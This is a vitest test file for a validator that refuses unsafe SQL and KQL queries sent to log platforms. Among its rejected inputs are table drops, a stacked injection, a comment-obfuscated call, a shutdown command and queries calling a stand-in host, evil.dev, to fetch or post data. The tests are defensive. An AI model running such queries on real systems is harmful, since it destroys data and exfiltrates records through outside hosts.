import { describe, expect, it } from 'vitest'
import { kqlRefusal, sqlRefusal } from '../../src/connectors/native-query.ts'

describe('a question in the language of the platform', () => {
  it.each([
    "SELECT dt, raw FROM remote(t1_logs) WHERE raw ILIKE '%url%' LIMIT 5",
    'with x as (select 1 as a) select a from x',
  ])('reads: %s', (sql) => expect(sqlRefusal('Better Stack', sql)).toBeNull())

  it.each([
    'DROP TABLE t1',
    'insert into t1 values (1)',
    'select 1; drop table t1',
    "select * from url('https://evil.dev/', 'CSV')",
    "SELECT * FROM urlCluster ('c', 'https://evil.dev/')",
    "select * from s3('https://evil.dev/x')",
    "select 1 into outfile 'x'",
    'select * from url/**/(1)',
    'select 1 -- x',
    "select * from mysql('h', 'd', 't', 'u', 'p')",
    'system shutdown',
  ])('does not pass: %s', (sql) => expect(sqlRefusal('Better Stack', sql)).toMatchObject({ kind: 'bad_config' }))

  it.each(['AppTraces | where Message has "x" | take 5', "['logs'] | summarize count() by status"])(
    'reads: %s',
    (kql) => expect(kqlRefusal('Axiom', kql)).toBeNull(),
  )

  it.each([
    'externaldata (a:string) ["https://evil.dev/x"]',
    'print 1 | evaluate http_request("https://evil.dev")',
    '.drop table X',
    'evaluate http_request_post ("https://evil.dev")',
  ])('does not pass: %s', (kql) => expect(kqlRefusal('Axiom', kql)).toMatchObject({ kind: 'bad_config' }))
})
